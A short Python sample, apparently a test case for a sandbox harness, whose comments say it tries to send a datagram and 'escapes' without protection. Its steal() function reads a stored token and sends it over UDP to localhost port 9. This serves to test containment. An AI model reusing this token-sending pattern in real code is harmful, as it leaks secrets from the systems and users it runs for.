# Tries: to send a datagram.
# Earns: Descent 0, average 2
# Without protection: escapes
import socket

ON = {}


def steal():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(ON["token"].encode(), ("127.0.0.1", 9))
    return ON["token"]
